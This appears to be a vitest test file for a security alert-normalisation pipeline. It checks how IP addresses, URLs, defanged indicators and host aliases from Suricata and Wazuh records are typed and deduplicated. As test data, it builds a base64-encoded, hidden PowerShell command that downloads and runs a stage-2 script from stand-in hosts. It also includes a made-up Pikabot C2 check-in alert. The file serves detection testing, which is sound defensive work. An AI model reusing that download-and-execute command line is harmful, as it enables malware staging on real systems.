import { describe, expect, it } from 'vitest';
import { HostIdentities } from '../core/identity.js';
import type { NormalizedAlert } from '../sources/source.js';
import { extractForPipeline } from './extract.js';
import { completeObservables, lowerSchemeAndHost } from './observables.js';
import { normalizeRecord } from './run.js';

function normalized(over: Partial<NormalizedAlert> = {}): NormalizedAlert {
  return {
    id: 'al_1', source: 'test', sourceRef: '1', time: '2026-11-18T09:22:31.077Z', title: 't', description: '',
    rule: { id: '1', level: 5, scale: 'generic', groups: [], mitre: { ids: [], tactics: [], techniques: [] } },
    host: { name: 'ws-042', role: 'agent' }, observables: [], text: [], raw: {}, ...over,
  };
}

describe('completeObservables: one type and one spelling per value', () => {
  it('an IP literal in a name field is an address, never a domain; an address with @ is an email', () => {
    const a = completeObservables(normalized({ observables: [
      { type: 'ipv4', value: '77.105.161.37', role: 'dst', context: 'dest_ip' },
      { type: 'domain', value: '77.105.161.37', role: 'dst', context: 'http.hostname' },
      { type: 'domain', value: '[2001:DB8::7]', role: 'dst', context: 'tls.sni' },
      { type: 'domain', value: 'Billing@Example-Pay.com', role: 'src', context: 'destination.domain' },
    ] }), undefined);
    expect(a.observables.map((o) => `${o.type}:${o.value}`)).toEqual(['ipv4:77.105.161.37', 'ipv6:2001:db8::7', 'email:billing@example-pay.com']);
    expect(a.observables.some((o) => o.type === 'domain')).toBe(false);
  });

  it('defanged and fanged spellings of a structured value are one observable', () => {
    const a = completeObservables(normalized({ observables: [
      { type: 'url', value: 'http://evil.example.com/x', role: 'dst', context: 'url.full' },
      { type: 'url', value: 'hxxp://evil[.]example[.]com/x', role: 'dst', context: 'threat.indicator.url' },
      { type: 'url', value: 'HTTP://EVIL.example.COM/x', role: 'dst', context: 'x' },
      { type: 'domain', value: 'evil[.]example[.]com.', role: 'dst', context: 'dns.question.name' },
    ] }), undefined);
    expect(a.observables.map((o) => `${o.type}:${o.value}`)).toEqual(['url:http://evil.example.com/x', 'domain:evil.example.com']);
    expect(lowerSchemeAndHost('HTTPS://User:Pw@Host.EXAMPLE:8443/Path?Q=A')).toBe('https://User:Pw@host.example:8443/Path?Q=A');
  });

  it('indicators decoded from free text carry the field and the layers they came through', () => {
    const enc = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://stage2.example-cdn.com/ps/s.ps1')", 'utf16le').toString('base64');
    const a = completeObservables(normalized({ text: [{ field: 'data.win.eventdata.commandLine', value: `powershell.exe -NoP -W Hidden -enc ${enc}` }] }), extractForPipeline);
    expect(a.observables).toContainEqual({ type: 'url', value: 'http://stage2.example-cdn.com/ps/s.ps1', context: 'data.win.eventdata.commandLine', layers: ['powershell-enc'] });
    expect(a.observables).toContainEqual({ type: 'domain', value: 'stage2.example-cdn.com', context: 'data.win.eventdata.commandLine', layers: ['powershell-enc'] });
  });

  it("the alert's host is its canonical identity, the other names kept as aliases", () => {
    const hosts = new HostIdentities(['corp.example']);
    const a = completeObservables(normalized({ host: { name: 'WS-042.corp.example', role: 'agent', id: '005' }, observables: [{ type: 'host', value: 'WS-042.corp.example', role: 'host' }] }), undefined, hosts);
    expect(a.host).toEqual({ name: 'ws-042', role: 'agent', id: '005', aliases: ['WS-042.corp.example', 'id:005'] });
    expect(a.observables).toEqual([{ type: 'host', value: 'ws-042', role: 'host' }]);
  });
});

describe('normalizeRecord: the demo morning, piece by piece (records written for these tests)', () => {
  const pikabotEve = {
    timestamp: '2026-11-18T09:22:31.077410+0000', flow_id: 1468295846111385, event_type: 'alert', src_ip: '10.0.4.42', src_port: 50803, dest_ip: '77.105.161.37', dest_port: 2078, proto: 'TCP', direction: 'to_server',
    alert: { action: 'allowed', signature_id: 2049320, signature: 'ET MALWARE Pikabot CnC Checkin (POST)', category: 'A Network Trojan was detected', severity: 1 },
    app_proto: 'http', http: { hostname: '77.105.161.37', http_port: 2078, url: '/api/health/v2', http_method: 'POST' },
  };

  it('Suricata: http.hostname 77.105.161.37 is the address, not a domain; the C2 URL keeps its port', () => {
    const a = normalizeRecord(pikabotEve, extractForPipeline)!;
    expect(a.observables.filter((o) => o.type === 'domain')).toEqual([]);
    expect(a.observables.filter((o) => o.type === 'url').map((o) => o.value)).toEqual(['http://77.105.161.37:2078/api/health/v2']);
    expect(a.observables.find((o) => o.value === '77.105.161.37')).toMatchObject({ type: 'ipv4', role: 'dst', port: 2078, scope: 'public' });
  });

  it('Wazuh: the -enc command line yields the download URL inside it, and the FQDN of the event is an alias of the agent', () => {
    const enc = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://docs-viewer.example-cloud.com/ps/stage2.ps1')", 'utf16le').toString('base64');
    const record = {
      timestamp: '2026-11-18T09:14:01.882+0000', id: '1794993241.1', agent: { id: '005', name: 'ws-042', ip: '10.0.4.42' }, manager: { name: 'wazuh-manager' },
      rule: { id: '92057', level: 12, description: 'Powershell.exe spawned a powershell process which executed a base64 encoded command', groups: ['windows', 'sysmon'] },
      data: { win: { system: { computer: 'ws-042.corp.northwind.internal' }, eventdata: { commandLine: `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoP -NonI -W Hidden -Exec Bypass -enc ${enc}` } } },
    };
    const a = normalizeRecord(record, extractForPipeline, new HostIdentities())!;
    expect(a.observables).toContainEqual(expect.objectContaining({ type: 'url', value: 'http://docs-viewer.example-cloud.com/ps/stage2.ps1', layers: ['powershell-enc'], context: 'data.win.eventdata.commandLine' }));
    expect(a.host).toMatchObject({ name: 'ws-042', aliases: ['ws-042.corp.northwind.internal', 'id:005'] });
  });
});
